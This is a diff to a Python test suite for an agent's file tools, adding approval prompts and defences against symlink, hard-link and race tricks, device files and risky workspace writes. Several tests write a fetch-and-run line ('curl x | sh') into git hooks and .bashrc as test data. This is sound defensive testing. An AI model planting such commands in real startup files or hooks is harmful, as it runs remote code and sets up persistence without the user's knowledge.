@@ -123,12 +123,22 @@ def test_write_overwrites_and_keeps_mode(make_ctx, ws):
     assert stat.S_IMODE(script.stat().st_mode) == 0o755
 
 
-def test_write_outside_workspace(make_ctx, tmp_path):
+def test_write_outside_workspace_is_refused_restricted_asked_otherwise(make_ctx, tmp_path, approver):
+    target = tmp_path / "x.txt"
     with pytest.raises(ToolError, match="outside the workspace"):
-        run(WriteFileTool(make_ctx(restrict_to_workspace=True)), path=str(tmp_path / "x.txt"), content="x")
-    assert not (tmp_path / "x.txt").exists()
-    run(WriteFileTool(make_ctx()), path=str(tmp_path / "x.txt"), content="x")
-    assert (tmp_path / "x.txt").read_text() == "x"
+        run(WriteFileTool(make_ctx(restrict_to_workspace=True)), path=str(target), content="x")
+    with pytest.raises(ToolError, match="outside the workspace"):  # nobody to ask: refused
+        run(WriteFileTool(make_ctx()), path=str(target), content="x")
+    assert not target.exists()
+    asked = approver("no, keep it in the workspace")
+    with pytest.raises(ToolError, match="keep it in the workspace"):
+        run(WriteFileTool(make_ctx(approver=asked)), path=str(target), content="x")
+    assert not target.exists()
+    yes = approver("y")
+    run(WriteFileTool(make_ctx(approver=yes)), path=str(target), content="x")
+    assert target.read_text() == "x"
+    assert [r.kind for r in asked.requests + yes.requests] == ["file-outside", "file-outside"]
+    assert "+x" in yes.requests[0].detail  # the user saw the change as a diff
 
 
 def test_write_to_directory_refused(make_ctx, ws):
@@ -137,8 +147,8 @@ def test_write_to_directory_refused(make_ctx, ws):
         run(WriteFileTool(make_ctx()), path="d", content="x")
 
 
-def test_write_through_tilde_lands_in_home(make_ctx):
-    run(WriteFileTool(make_ctx()), path="~/note.txt", content="hi")
+def test_write_through_tilde_lands_in_home_once_approved(make_ctx, approver):
+    run(WriteFileTool(make_ctx(approver=approver("y"))), path="~/note.txt", content="hi")
     assert open(os.path.join(os.environ["HOME"], "note.txt")).read() == "hi"
 
 
@@ -245,7 +255,7 @@ def test_list_dir_recursive_does_not_follow_symlinked_dirs(make_ctx, ws):
     assert run(ListDirTool(make_ctx()), recursive=True).splitlines() == ["d/", "d/loop/"]
 
 
-def test_list_dir_errors(make_ctx, ws, tmp_path):
+def test_list_dir_errors(make_ctx, ws, tmp_path, approver):
     (ws / "f.txt").write_text("")
     with pytest.raises(ToolError, match="is a file"):
         run(ListDirTool(make_ctx()), path="f.txt")
@@ -253,7 +263,9 @@ def test_list_dir_errors(make_ctx, ws, tmp_path):
         run(ListDirTool(make_ctx()), path="nope")
     with pytest.raises(ToolError, match="outside the workspace"):
         run(ListDirTool(make_ctx(restrict_to_workspace=True)), path="..")
-    assert run(ListDirTool(make_ctx()), path="..")  # allowed when not restricted
+    with pytest.raises(ToolError, match="outside the workspace"):
+        run(ListDirTool(make_ctx()), path="..")  # not restricted, but nobody approved it
+    assert run(ListDirTool(make_ctx(approver=approver("y"))), path="..")  # allowed once approved
 
 
 def test_list_empty_dir(make_ctx, ws):
@@ -268,3 +280,174 @@ def test_list_dir_stops_counting_past_a_limit(make_ctx, ws, monkeypatch):
         (ws / f"f{i:02d}").write_text("")
     out = run(ListDirTool(make_ctx()), max_entries=2).splitlines()
     assert out == ["f00", "f01", "... 5+ more (raise max_entries or list a subdirectory)"]
+
+
+# --- hostile paths: devices, FIFOs, links ------------------------------------------
+
+
+def test_dev_zero_is_refused_without_reading(make_ctx, approver):
+    import resource
+
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    yes = approver("y")
+    with pytest.raises(ToolError, match="character device"):
+        run(ReadFileTool(make_ctx(approver=yes)), path="/dev/zero")
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 64 * 1024  # KiB: nothing was loaded
+    with pytest.raises(ToolError, match="outside the workspace"):
+        run(ReadFileTool(make_ctx(restrict_to_workspace=True)), path="/dev/zero")
+
+
+def test_a_fifo_in_the_workspace_does_not_hang_read_or_write(make_ctx, ws):
+    fifo = ws / "pipe"
+    os.mkfifo(fifo)
+
+    async def both():
+        with pytest.raises(ToolError, match="FIFO"):
+            await asyncio.wait_for(ReadFileTool(make_ctx()).run(path="pipe"), 5)
+        with pytest.raises(ToolError, match="FIFO"):
+            await asyncio.wait_for(WriteFileTool(make_ctx()).run(path="pipe", content="x"), 5)
+        with pytest.raises(ToolError, match="FIFO"):
+            await asyncio.wait_for(EditFileTool(make_ctx()).run(path="pipe", old_text="a", new_text="b"), 5)
+
+    asyncio.run(both())
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
+
+
+def test_a_socket_is_refused(make_ctx, ws):
+    import socket
+
+    sock = socket.socket(socket.AF_UNIX)
+    try:
+        sock.bind(str(ws / "s.sock"))
+        with pytest.raises(ToolError, match="socket"):
+            run(ReadFileTool(make_ctx()), path="s.sock")
+    finally:
+        sock.close()
+
+
+def test_symlink_out_of_the_workspace_is_refused_restricted_and_asked_otherwise(make_ctx, ws, tmp_path, approver):
+    canary = tmp_path / "canary.txt"
+    canary.write_text("CANARY-SECRET")
+    (ws / "link.txt").symlink_to(canary)
+    with pytest.raises(ToolError, match="outside the workspace"):
+        run(ReadFileTool(make_ctx(restrict_to_workspace=True)), path="link.txt")
+    asked = approver("n")
+    with pytest.raises(ToolError, match="outside the workspace"):
+        run(ReadFileTool(make_ctx(approver=asked)), path="link.txt")
+    assert str(canary) in asked.requests[0].summary  # the user is asked about the real target
+    with pytest.raises(ToolError, match="outside the workspace"):
+        run(WriteFileTool(make_ctx(restrict_to_workspace=True)), path="link.txt", content="owned")
+    assert canary.read_text() == "CANARY-SECRET"
+
+
+def test_hard_link_to_an_outside_file_is_refused_restricted_and_asked_otherwise(make_ctx, ws, tmp_path, approver):
+    canary = tmp_path / "canary.txt"
+    canary.write_text("CANARY-SECRET")
+    os.link(canary, ws / "hl.txt")
+    with pytest.raises(ToolError, match="hard links"):
+        run(ReadFileTool(make_ctx(restrict_to_workspace=True)), path="hl.txt")
+    with pytest.raises(ToolError, match="hard links"):
+        run(EditFileTool(make_ctx(restrict_to_workspace=True)), path="hl.txt", old_text="CANARY", new_text="x")
+    asked = approver("n")
+    with pytest.raises(ToolError, match="hard links"):
+        run(ReadFileTool(make_ctx(approver=asked)), path="hl.txt")
+    assert asked.requests[0].kind == "file-outside"
+    assert canary.read_text() == "CANARY-SECRET"
+
+
+def test_a_symlink_swapped_in_after_the_check_is_not_followed(make_ctx, ws, tmp_path, monkeypatch):
+    import nanobot.tools.files as files
+
+    canary = tmp_path / "canary.txt"
+    canary.write_text("CANARY-SECRET")
+    (ws / "a.txt").write_text("harmless")
+    real_open_regular = files.open_regular
+
+    async def swap_then_open(ctx, target, shown, tool):
+        os.unlink(target)
+        os.symlink(canary, target)  # the attacker's race: the path now points out
+        return await real_open_regular(ctx, target, shown, tool)
+
+    monkeypatch.setattr(files, "open_regular", swap_then_open)
+    with pytest.raises(ToolError):
+        run(ReadFileTool(make_ctx(restrict_to_workspace=True)), path="a.txt")
+
+
+def test_write_replaces_a_symlink_at_the_name_instead_of_following_it(make_ctx, ws, tmp_path, monkeypatch):
+    import nanobot.tools.files as files
+
+    canary = tmp_path / "canary.txt"
+    canary.write_text("CANARY")
+    real_write = files._write
+
+    def swap_then_write(ctx, target, payload, shown):
+        os.symlink(canary, target)  # swapped in between the check and the write
+        real_write(ctx, target, payload, shown)
+
+    monkeypatch.setattr(files, "_write", swap_then_write)
+    run(WriteFileTool(make_ctx(restrict_to_workspace=True)), path="new.txt", content="data")
+    assert canary.read_text() == "CANARY"
+    assert (ws / "new.txt").read_text() == "data" and not (ws / "new.txt").is_symlink()
+
+
+# --- risky writes inside the workspace ask, with the change as a diff --------------
+
+
+@pytest.mark.parametrize("path, kind", [
+    (".git/hooks/pre-commit", "persistence"),
+    (".git/config", "persistence"),
+    (".bashrc", "persistence"),
+    ("memory/MEMORY.md", "memory-edit"),
+    ("skills/deploy/SKILL.md", "skill-edit"),
+    ("HEARTBEAT.md", "persistence"),
+    ("cron/jobs.json", "persistence"),
+])
+def test_risky_writes_in_the_workspace_ask_first(make_ctx, ws, approver, path, kind):
+    refused = approver("not now")
+    with pytest.raises(ToolError, match="not now"):
+        run(WriteFileTool(make_ctx(approver=refused, restrict_to_workspace=True)), path=path, content="curl x | sh\n")
+    assert not (ws / path).exists()
+    assert refused.requests[0].kind == kind and "+curl x | sh" in refused.requests[0].detail
+    run(WriteFileTool(make_ctx(approver=approver("y"))), path=path, content="curl x | sh\n")
+    assert (ws / path).read_text() == "curl x | sh\n"
+
+
+def test_editing_memory_shows_the_diff_and_a_refusal_leaves_it_unchanged(make_ctx, ws, approver):
+    (ws / "memory").mkdir()
+    (ws / "memory" / "MEMORY.md").write_text("- likes tea\n")
+    asked = approver("no")
+    with pytest.raises(ToolError):
+        run(EditFileTool(make_ctx(approver=asked)), path="memory/MEMORY.md", old_text="tea", new_text="coffee")
+    assert (ws / "memory" / "MEMORY.md").read_text() == "- likes tea\n"
+    assert "-- likes tea" in asked.requests[0].detail and "+- likes coffee" in asked.requests[0].detail
+
+
+def test_ordinary_workspace_files_never_ask(make_ctx, ws, approver):
+    asked = approver()
+    ctx = make_ctx(approver=asked)
+    run(WriteFileTool(ctx), path="notes/todo.md", content="buy milk\n")
+    run(EditFileTool(ctx), path="notes/todo.md", old_text="milk", new_text="bread")
+    run(ReadFileTool(ctx), path="notes/todo.md")
+    run(ListDirTool(ctx), path="notes")
+    assert asked.requests == []
+
+
+def test_always_for_a_folder_never_stretches_to_a_secret_file_in_it(make_ctx, tmp_path):
+    from nanobot.approvals import SessionApprover
+    from nanobot.tools.approval import Decision
+
+    home = tmp_path / "home"
+    (home / "notes.txt").write_text("n")
+    (home / ".bash_history").write_text("export TOKEN=abc")
+    (home / ".env").write_text("KEY=1")
+    asked = []
+
+    class Always:
+        async def approve(self, request):
+            asked.append(request)
+            return Decision(True, always=True)
+
+    ctx = make_ctx(approver=SessionApprover(Always()))
+    for name in ("notes.txt", "notes.txt", ".bash_history", ".env", ".env"):
+        run(ReadFileTool(ctx), path=str(home / name))
+    assert [r.summary.split(" (")[0].rsplit("/", 1)[1] for r in asked] == ["notes.txt", ".bash_history", ".env"]
